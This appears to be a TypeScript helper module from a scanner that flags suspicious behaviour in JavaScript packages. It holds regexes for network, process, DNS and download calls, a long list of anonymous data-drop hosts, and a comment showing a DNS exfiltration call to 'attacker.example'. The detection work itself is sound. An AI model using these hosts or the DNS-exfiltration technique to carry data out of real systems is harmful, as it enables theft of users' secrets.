import type { CallSite, StringSite } from "../ast/facts.js";
import { staticString, HOLE } from "../ast/static-value.js";
import type { Node } from "../ast/walk.js";
import type { FileContext } from "./rule.js";

/**
 * Building blocks several rules share: where a file talks to the network,
 * starts processes, and which shell commands it spells out.
 */

const NETWORK_CALLEE =
  /^(?:https?|http2)\.(?:request|get|connect)$|^fetch$|^(?:node-fetch|cross-fetch|undici\.(?:fetch|request)|axios(?:\.\w+)?|got(?:\.\w+)?|needle|request(?:\.\w+)?|superagent(?:\.\w+)?)$|^net\.(?:connect|createConnection|Socket)$|^tls\.connect$|^XMLHttpRequest$|^WebSocket$|^ws$|^(?:socket\.io-client|sync-request|request-promise(?:-native)?|phin|bent|make-fetch-happen)(?:\.\w+)?$|(?:^|\.)WebhookClient$|^(?:ftp|jsftp|basic-ftp\.Client|ssh2-sftp-client|nodemailer\.createTransport)$/;
const DNS_CALLEE = /^dns(?:\.promises)?\.(?:lookup|resolve\w*|reverse)$|^dns\.Resolver$/;
export const PROCESS_CALLEE = /^child_process\.(?:exec|execSync|spawn|spawnSync|execFile|execFileSync|fork)$/;
/** DNS look-up tools: with a name built at run time they carry data out in the query itself. */
const DNS_COMMAND = /^\s*(?:nslookup|dig|host|drill|ping|Resolve-DnsName)\b/i;
const DOWNLOAD_COMMAND = /\b(?:curl|wget|Invoke-WebRequest|iwr|Invoke-RestMethod|irm)\b/i;

export function networkCalls(file: FileContext): CallSite[] {
  return file.ast?.memo("networkCalls", () => file.ast!.calls.filter((call) => NETWORK_CALLEE.test(call.callee) || DNS_CALLEE.test(call.callee))) ?? [];
}

export function dnsCalls(file: FileContext): CallSite[] {
  return file.ast?.calls.filter((call) => DNS_CALLEE.test(call.callee)) ?? [];
}

/** `exec("nslookup " + data + ".attacker.example")`: a DNS query whose name is built from data. */
export function dnsCommands(file: FileContext): CallSite[] {
  return processCalls(file).filter((call) => {
    const line = commandLine(file, call);
    return DNS_COMMAND.test(line) && line.includes(HOLE);
  });
}

export function processCalls(file: FileContext): CallSite[] {
  return file.ast?.memo("processCalls", () => file.ast!.calls.filter((call) => PROCESS_CALLEE.test(call.callee))) ?? [];
}

/**
 * The command line a process call runs, as far as it is static: `exec("curl " + u)` → "curl …".
 * Names bound once are followed: `const cmd = Buffer.from(b64, "base64").toString(); spawn(cmd)`.
 */
export function commandLine(file: FileContext, call: CallSite): string {
  if (!file.ast) return commandLineOf(file, call);
  return file.ast.memo(`commandLine:${(call.node as { start?: number }).start ?? -1}:${call.callee}`, () => commandLineOf(file, call));
}

function commandLineOf(file: FileContext, call: CallSite): string {
  const stringOf = (node: Node | undefined) => file.ast?.stringOf(node) ?? staticString(node);
  const [command] = call.args;
  const second = file.ast?.resolve(call.args[1]) ?? call.args[1];
  const head = stringOf(command) ?? HOLE;
  if (second?.type !== "ArrayExpression") return head;
  return [head, ...second.elements.map((element) => stringOf(element as Node) ?? HOLE)].join(" ");
}

/** Process calls whose command line downloads something (curl, wget, PowerShell). */
export function downloadCommands(file: FileContext): CallSite[] {
  return processCalls(file).filter((call) => DOWNLOAD_COMMAND.test(commandLine(file, call)));
}

export function stringsMatching(file: FileContext, pattern: RegExp): StringSite[] {
  // Keyed by the pattern's text: the rules share a few patterns (drop hosts, raw IPs) across many calls.
  return file.ast?.memo(`strings:${pattern.source}/${pattern.flags}`, () => file.ast!.strings.filter((site) => pattern.test(site.value))) ?? [];
}

/** A regex search over raw text, for files that were not parsed. Returns the offset of the first match. */
export function textMatch(file: FileContext, pattern: RegExp): number | undefined {
  const match = pattern.exec(file.text);
  return match ? match.index : undefined;
}

/** Hosts that receive data with no account or server of one's own: where stolen data goes. */
export const DROP_HOST =
  /\b(?:webhook\.site|oastify\.com|requestcatcher\.com|hookbin\.com|ptsv[23]\.com|postb\.in|webhook-test\.com|discord(?:app)?\.com\/api\/webhooks|(?:cdn\.discordapp\.com|media\.discordapp\.net)\/attachments|hooks\.slack\.com\/services|api\.telegram\.org\/bot|pastebin\.com|paste\.ee|hastebin|ghostbin|requestbin|pipedream\.net|\w+\.m\.pipedream|beeceptor\.com|ngrok(?:-free)?\.(?:io|app|dev)|trycloudflare\.com|serveo\.net|localtunnel\.me|loca\.lt|interact\.sh|oast\.(?:fun|me|pro|live|site|online)|burpcollaborator\.net|canarytokens\.com|dnslog\.cn|ceye\.io|transfer\.sh|file\.io|ipinfo\.io|bashupload\.com|hookb\.in|mockbin\.(?:org|io)|requestinspector\.com|rentry\.co|termbin\.com|gofile\.io|catbox\.moe|anonfiles\.com|bore\.pub|localhost\.run|pagekite\.me|dnslog\.link|requestrepo\.com|webhook\.cool)\b/i;

/** A URL whose host is a literal IPv4 address that is not loopback or private. */
export const RAW_IP_URL = /\b(?:https?|wss?|tcp):\/\/(?!(?:127|10|0)\.|192\.168\.|172\.(?:1[6-9]|2\d|3[01])\.|169\.254\.)\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}(?::\d+)?/;
